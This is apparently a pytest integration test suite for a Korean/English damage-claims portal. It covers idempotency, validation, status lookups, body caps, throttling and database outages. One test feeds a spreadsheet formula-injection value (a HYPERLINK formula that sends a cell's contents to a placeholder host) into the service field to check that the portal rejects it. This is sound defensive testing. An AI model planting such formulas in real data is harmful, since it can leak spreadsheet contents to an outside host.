"""The public portal against the real app and a real PostgreSQL: the form in both languages,
idempotent submission, server-side validation, the status page and the abuse limits."""

import re

import httpx
import psycopg

FORM = {"reporter_kind": "channel_shop", "service": "messenger", "window_start": "2022-10-15T15:30",
        "window_end": "2022-10-15T22:00", "claimed_amount": "250,000", "contact": "010-2222-3333",
        "description": "주문을 받지 못했습니다"}


def form_key(html: str) -> str:
    return re.search(r'name="form_key" value="([^"]+)"', html).group(1)


def receipt_of(html: str) -> str:
    return re.search(r'id="receipt">(FB-[A-Z0-9]+)<', html).group(1)


def test_the_form_is_korean_by_default_and_english_on_request(claims_app):
    ko = httpx.get(claims_app["url"] + "/")
    assert ko.status_code == 200 and '<html lang="ko">' in ko.text and "피해 접수" in ko.text
    en = httpx.get(claims_app["url"] + "/?lang=en")
    assert '<html lang="en">' in en.text and "Report damage" in en.text
    # every input has a label pointing at it
    for field in ("reporter_kind", "service", "window_start", "window_end", "claimed_amount", "contact"):
        assert f'<label for="{field}">' in en.text and f'id="{field}"' in en.text


def test_a_submitted_form_gets_one_receipt_however_often_it_is_sent(claims_app):
    with httpx.Client(base_url=claims_app["url"]) as c:
        key = form_key(c.get("/").text)
        first = c.post("/report", data={**FORM, "form_key": key, "language": "ko"})
        assert first.status_code == 201, first.text
        again = c.post("/report", data={**FORM, "form_key": key, "language": "ko"})
        assert receipt_of(again.text) == receipt_of(first.text)
    with psycopg.connect(claims_app["dsn"]) as conn:
        n = conn.execute("SELECT count(*) FROM reports WHERE receipt = %s", (receipt_of(first.text),)).fetchone()[0]
        stored = conn.execute("SELECT claimed_amount, window_start FROM reports WHERE receipt = %s",
                              (receipt_of(first.text),)).fetchone()
    assert n == 1
    assert stored[0] == 250_000 and stored[1].utcoffset() is not None
    assert stored[1].isoformat().startswith("2022-10-15T06:30")  # 15:30 Korea time is 06:30 UTC


def test_bad_input_is_refused_field_by_field_in_the_persons_language(claims_app):
    with httpx.Client(base_url=claims_app["url"]) as c:
        key = form_key(c.get("/?lang=en").text)
        bad = {**FORM, "form_key": key, "language": "en", "contact": "call me", "claimed_amount": "lots",
               "window_end": "2022-10-15T10:00"}
        r = c.post("/report", data=bad)
    assert r.status_code == 422
    assert "Enter a mobile number" in r.text and "Enter a number from 0" in r.text
    assert 'aria-invalid="true"' in r.text
    assert 'value="call me"' in r.text  # what the person typed stays in the form


def test_a_forged_or_expired_form_key_stores_nothing(claims_app):
    r = httpx.post(claims_app["url"] + "/report", data={**FORM, "form_key": "forged", "language": "en"})
    assert r.status_code == 400 and "expired" in r.text


def test_the_status_page_needs_receipt_and_contact(claims_app):
    with httpx.Client(base_url=claims_app["url"]) as c:
        receipt = receipt_of(c.post("/report", data={**FORM, "form_key": form_key(c.get("/").text)}).text)
        ok = c.post("/status", data={"receipt": receipt, "contact": FORM["contact"], "language": "en"})
        assert ok.status_code == 200 and "Received" in ok.text
        wrong = c.post("/status", data={"receipt": receipt, "contact": "010-0000-0000", "language": "en"})
        assert wrong.status_code == 404 and "No report" in wrong.text
        api = c.post("/api/reports/status", json={"receipt": receipt.lower(), "contact": FORM["contact"]})
        assert api.status_code == 200 and api.json()["status"] == "received"


def test_oversized_bodies_are_refused(claims_app):
    r = httpx.post(claims_app["url"] + "/api/reports", content=b"x" * 40_000,
                   headers={"Content-Type": "application/json"})
    assert r.status_code == 413


def test_every_route_caps_its_body_however_it_is_sent(claims_app):
    """Chunked (no Content-Length) bodies too, on the portal, the status lookup and the review."""
    def chunked():
        for _ in range(64):
            yield b"a=" + b"x" * 4096 + b"&"
    # A (stale) session cookie takes the reviewer action past the edge to the route, which reads it.
    for path in ("/report", "/status", "/review/login", "/review/bulk-approve", "/api/reports/status",
                 "/api/reports"):
        r = httpx.post(claims_app["url"] + path, content=chunked(), timeout=10,
                       headers={"Content-Type": "application/x-www-form-urlencoded", "Cookie": "firebreak_review=stale"})
        assert r.status_code == 413, (path, r.status_code, r.text[:200])
        assert "request body over" in r.json()["error"]
    # Without one, the edge refuses it before reading a byte of the body.
    r = httpx.post(claims_app["url"] + "/review/bulk-approve", content=chunked(), timeout=10,
                   headers={"Content-Type": "application/x-www-form-urlencoded"})
    assert r.status_code == 401


def test_an_unknown_answer_is_503_not_no_such_report(claims_db, tmp_path):
    """With no database server answering, a lookup is unknown: 503 in ko and en, never the 404
    that tells a person their report does not exist (they would file it again)."""
    from tests.web.conftest import free_port, serve_app

    dead = f"postgresql://claims:x@127.0.0.1:{free_port()}/claims"  # nothing listens there
    with serve_app(dead, tmp_path, FIREBREAK_ADMIN_TOKEN="t0ken") as (url, _):
        r = httpx.get(url + "/api/reports/1", timeout=10, headers={"Authorization": "Bearer t0ken"})
        assert r.status_code == 503 and "temporarily unavailable" in r.json()["error"]
        assert r.headers["retry-after"]
        r = httpx.post(url + "/api/reports/status", json={"receipt": "FB-ABC", "contact": "010-1234-5678"},
                       timeout=10)
        assert r.status_code == 503
        for lang, text in (("ko", "다시 접수하지 마시고"), ("en", "please do not file it again")):
            r = httpx.post(url + "/status", data={"receipt": "FB-ABC", "contact": "010-1234-5678", "language": lang},
                           timeout=10)
            assert r.status_code == 503 and text in r.text
            assert "No report with this receipt" not in r.text and "해당 접수 번호와 연락처의 신고가 없습니다" not in r.text


REPORT = {"reporter_kind": "paid_user", "service": "messenger", "window_start": "2022-10-15T15:19:00+09:00",
          "window_end": "2022-10-16T01:00:00+09:00", "claimed_amount": 5000, "contact": "key@example.org",
          "description": "idempotency"}


def test_an_idempotency_key_is_bound_to_its_report(claims_app):
    import json
    import uuid

    key = uuid.uuid4().hex
    with httpx.Client(base_url=claims_app["url"]) as c:
        first = c.post("/api/reports", json=REPORT, headers={"Idempotency-Key": key})
        assert first.status_code == 201, first.text
        # the same report, spelled differently (key order, spacing): the same request, replayed
        same = c.post("/api/reports", content=json.dumps(dict(reversed(list(REPORT.items()))), indent=2),
                      headers={"Idempotency-Key": key, "Content-Type": "application/json"})
        assert same.status_code == 201 and same.headers.get("idempotent-replay") == "true"
        assert same.json()["id"] == first.json()["id"]
        # another report under that key (a partner's predictable key, taken first): refused, naming the key
        other = c.post("/api/reports", json={**REPORT, "claimed_amount": 999_999}, headers={"Idempotency-Key": key})
    assert other.status_code == 422, other.text
    assert other.json()["errors"][0]["field"] == "Idempotency-Key" and "nothing was stored" in other.text
    assert first.json()["receipt"] not in other.text
    with psycopg.connect(claims_app["dsn"]) as conn:
        rows = conn.execute("SELECT claimed_amount FROM reports WHERE idempotency_key = %s", (key,)).fetchall()
    assert rows == [(5000,)]


def test_a_form_sent_again_with_other_details_stores_nothing_and_offers_a_fresh_form(claims_app):
    with httpx.Client(base_url=claims_app["url"]) as c:
        key = form_key(c.get("/?lang=en").text)
        first = c.post("/report", data={**FORM, "form_key": key, "language": "en"})
        assert first.status_code == 201
        edited = c.post("/report", data={**FORM, "claimed_amount": "900,000", "form_key": key, "language": "en"})
    assert edited.status_code == 422
    assert "already submitted with different details" in edited.text
    assert form_key(edited.text) != key and 'value="900,000"' in edited.text
    with psycopg.connect(claims_app["dsn"]) as conn:
        # this form's contact only: other tests share the database (the review tests file a 900,000 claim too)
        mine = dict(conn.execute("SELECT claimed_amount, count(*) FROM reports WHERE contact = %s GROUP BY 1",
                                 (FORM["contact"],)).fetchall())
    assert mine.get(250000, 0) >= 1 and 900000 not in mine  # the first is stored, the edited one is not


def test_without_a_primary_the_write_queue_stays_bounded(claims_db, tmp_path):
    """A database that accepts connections and never answers (a primary that lost power behind
    a live switch): reports beyond the queue's bound are refused at once with Retry-After."""
    import socket
    import threading

    from tests.web.conftest import serve_app

    silent = socket.socket()
    silent.bind(("127.0.0.1", 0))
    silent.listen(512)  # the kernel completes handshakes; nobody ever reads or answers
    port = silent.getsockname()[1]
    dead = f"postgresql://claims:x@127.0.0.1:{port}/claims?connect_timeout=10"
    try:
        with serve_app(claims_db, tmp_path, FIREBREAK_DSN=dead, FIREBREAK_WRITE_QUEUE="2",
                       FIREBREAK_WRITE_DEADLINE="5") as (url, _):
            answers: list[httpx.Response] = []

            def send(i: int) -> None:
                r = httpx.post(url + "/api/reports", json=REPORT, headers={"Idempotency-Key": f"q{i}-{port}"},
                               timeout=30)
                answers.append(r)
            threads = [threading.Thread(target=send, args=(i,)) for i in range(30)]
            for t in threads:
                t.start()
            for t in threads:
                t.join()
    finally:
        silent.close()
    refused = [r for r in answers if r.status_code == 503 and "too many reports waiting" in r.text]
    assert len(answers) == 30 and refused, [r.status_code for r in answers]
    assert all(r.headers.get("retry-after") for r in refused)
    assert not [r for r in answers if r.status_code == 201]


def test_report_numbers_answer_nobody_and_status_lookups_are_throttled_like_the_form(claims_db, tmp_path):
    """Report ids are sequential: the public cannot read a report (and its receipt) by number,
    and guessing receipts is limited per source as the form is (429 with Retry-After)."""
    from tests.web.conftest import serve_app

    with serve_app(claims_db, tmp_path, FIREBREAK_PORTAL_RATE="5", FIREBREAK_ADMIN_TOKEN="t0ken") as (url, _):
        made = httpx.post(url + "/api/reports", json={**REPORT, "contact": "enum@example.org"})
        assert made.status_code == 201
        rid, receipt = made.json()["id"], made.json()["receipt"]
        anonymous = httpx.get(f"{url}/api/reports/{rid}")
        assert anonymous.status_code == 401 and receipt not in anonymous.text
        assert "POST /api/reports/status" in anonymous.json()["error"]
        staff = httpx.get(f"{url}/api/reports/{rid}", headers={"Authorization": "Bearer t0ken"})
        assert staff.status_code == 200 and staff.json()["receipt"] == receipt
        found = httpx.post(url + "/api/reports/status", json={"receipt": receipt, "contact": "enum@example.org"})
        assert found.status_code == 200
        guesses = [httpx.post(url + "/api/reports/status", json={"receipt": f"FB-GUESS{i}", "contact": "x@y.z"})
                   for i in range(10)]
    limited = [g for g in guesses if g.status_code == 429]
    assert limited and all(g.headers.get("retry-after") for g in limited)


def test_a_report_names_a_service_from_the_policy_and_nothing_else(claims_app):
    r = httpx.post(claims_app["url"] + "/api/reports", json={**REPORT, "service": '=HYPERLINK("http://x/?"&D2,"y")'})
    assert r.status_code == 422
    err = r.json()["errors"][0]
    assert err["field"] == "service" and "messenger" in err["reason"]
    with httpx.Client(base_url=claims_app["url"]) as c:
        key = form_key(c.get("/?lang=en").text)
        forged = c.post("/report", data={**FORM, "service": "free text", "form_key": key, "language": "en"})
    assert forged.status_code == 422 and "Choose a service from the list" in forged.text


def test_a_report_the_database_refuses_costs_the_reports_committed_with_it_nothing(claims_db, tmp_path):
    """Reports arriving together are committed together; when the database refuses one's values,
    that one is told so (422, nothing stored) and the others are stored and acknowledged, not
    told their outcome is unknown. Sixty at once from one address: a partner's bulk filing
    system, with its key (a person's allowance is 20 at once)."""
    import asyncio
    import uuid

    from firebreak.claims.partners import key_line, new_key
    from tests.web.conftest import serve_app

    run = uuid.uuid4().hex[:8]
    key = new_key()
    keys = tmp_path / "partners"
    keys.write_text(key_line("bulk-filer", key) + "\n")
    keys.chmod(0o600)
    with serve_app(claims_db, tmp_path, FIREBREAK_PARTNER_KEYS=str(keys)) as (url, _):
        answers = _send_poisoned(claims_db, url, run, {"Authorization": f"Bearer {key}"})
    codes = [r.status_code for r in answers]
    assert [i for i, c in enumerate(codes) if c == 422] == [i for i in range(60) if i % 10 == 3], \
        [(i, r.status_code, r.text[:300]) for i, r in enumerate(answers) if r.status_code not in (201, 422)]
    assert all(c == 201 for i, c in enumerate(codes) if i % 10 != 3), codes
    assert "nothing was stored" in answers[3].json()["errors"][0]["reason"]
    with psycopg.connect(claims_db) as conn:
        stored = conn.execute("SELECT description, count(*) FROM reports WHERE idempotency_key LIKE %s GROUP BY 1",
                              (f"{run}-%",)).fetchall()
    assert dict(stored) == {f"fine-{run}": 54}


def _send_poisoned(dsn: str, url: str, run: str, headers: dict) -> list[httpx.Response]:
    """Sixty reports at once, every tenth (3, 13, ...) one the database refuses."""
    import asyncio

    with psycopg.connect(dsn) as conn:  # a rule the model does not know: only the database refuses
        conn.execute(f"ALTER TABLE reports ADD CONSTRAINT poison_{run} CHECK (description <> 'poison-{run}')")
        conn.commit()
    try:
        async def send_all() -> list[httpx.Response]:
            async with httpx.AsyncClient(base_url=url, timeout=30) as c:
                return await asyncio.gather(*(
                    c.post("/api/reports", headers={**headers, "Idempotency-Key": f"{run}-{i}"},
                           json={**REPORT, "description": f"poison-{run}" if i % 10 == 3 else f"fine-{run}"})
                    for i in range(60)))
        return asyncio.run(send_all())
    finally:
        with psycopg.connect(dsn) as conn:
            conn.execute(f"ALTER TABLE reports DROP CONSTRAINT poison_{run}")
            conn.commit()


def test_the_form_takes_an_account_and_no_longer_asks_for_a_price(claims_app):
    with httpx.Client(base_url=claims_app["url"]) as c:
        page = c.get("/?lang=en").text
        assert 'id="account"' in page and 'name="plan_price"' not in page
        r = c.post("/report", data={**FORM, "account": " shop-77 ", "plan_price": "9,999,999", "language": "en",
                                    "form_key": form_key(page)})
        assert r.status_code == 201, r.text
    with psycopg.connect(claims_app["dsn"]) as conn:
        account, plan = conn.execute("SELECT account, plan_price FROM reports WHERE receipt = %s",
                                     (receipt_of(r.text),)).fetchone()
    assert account == "shop-77" and plan == 0  # a price typed anyway is not even stored


def test_the_app_runs_on_pythons_own_event_loop_not_uvloop(claims_db, tmp_path):
    """uvloop aborted the lab's apps (SIGABRT inside libuv, nothing in the log): the served
    process must not have loaded it, even though uvicorn would pick it whenever it is installed."""
    import importlib.util

    from tests.web.conftest import serve_app

    with serve_app(claims_db, tmp_path) as (url, proc):
        assert httpx.get(url + "/healthz", timeout=5).status_code == 200
        maps = open(f"/proc/{proc.pid}/maps").read()
    assert "uvloop" not in maps
    if importlib.util.find_spec("uvloop") is not None:  # installed, so this proves the choice, not its absence
        assert "site-packages" in maps
